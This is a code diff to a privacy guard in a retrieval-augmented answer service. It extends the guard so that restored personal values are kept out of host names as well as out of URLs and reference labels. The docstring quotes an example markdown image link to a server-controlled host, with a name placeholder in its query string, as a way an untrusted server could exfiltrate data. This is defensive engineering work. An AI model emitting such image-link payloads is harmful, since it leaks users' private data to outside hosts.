@@ -1,4 +1,4 @@
-"""Keep restored values out of web addresses, and of the labels of references, in answers.
+"""Keep restored values out of web addresses, hosts' names and labels of references, in answers.
 
 The server is not trusted. It could answer `![](https://its.own.host/?q=PERSON_[...])`. A client
 that shows images fetches this address; with the name restored in it, the server would receive a
@@ -11,6 +11,7 @@ import re
 from collections.abc import Callable, Collection
 
 from sage_rag.privacy.tokens import LOOSE, StreamReplacer
+from sage_rag.rag_server.edge.hosts import HostTracker
 from sage_rag.rag_server.edge.labels import LabelTracker
 from sage_rag.rag_server.edge.shown_values import is_short
 
@@ -146,6 +147,7 @@ class GuardedStream:
         self._tracker = AddressTracker(in_json=in_json and not displayed)
         self._is_displayed = displayed or not in_json
         self._labels = LabelTracker()
+        self._hosts = HostTracker()
         self._replacer = StreamReplacer(LOOSE, self._value, self._between)
         self._last = ""
         """The last character of the output."""
@@ -176,6 +178,9 @@ class GuardedStream:
             return ""
         self._tracker.read(text)
         shown = self._labels.read(text) if self._is_displayed else text
+        if self._is_displayed:
+            for stream in dict.fromkeys((self, *self._preceding)):
+                shown = stream._hosts.read(shown)
         if text[0] == ":" and any(other._labels.ends_label for other in self._preceding):
             shown = f" {text}"
         return self._shown(shown)
@@ -184,6 +189,7 @@ class GuardedStream:
         if self._is_guarded:
             self._tracker.read(match.group())
             self._labels.skip_token()
+            self._hosts.skip_token()
             return self._shown(match.group())
         value = self._replace(match)
         first = _FIRST_WORD.match(value)
@@ -192,6 +198,7 @@ class GuardedStream:
         self._tracker.read(value)
         if self._is_displayed:
             self._labels.add_value(value)
+            self._hosts.add_value()
         shown = self._shown(value)
         last = _LAST_WORD.search(value)
         self._ends_short = bool(last and is_short(last.group()))
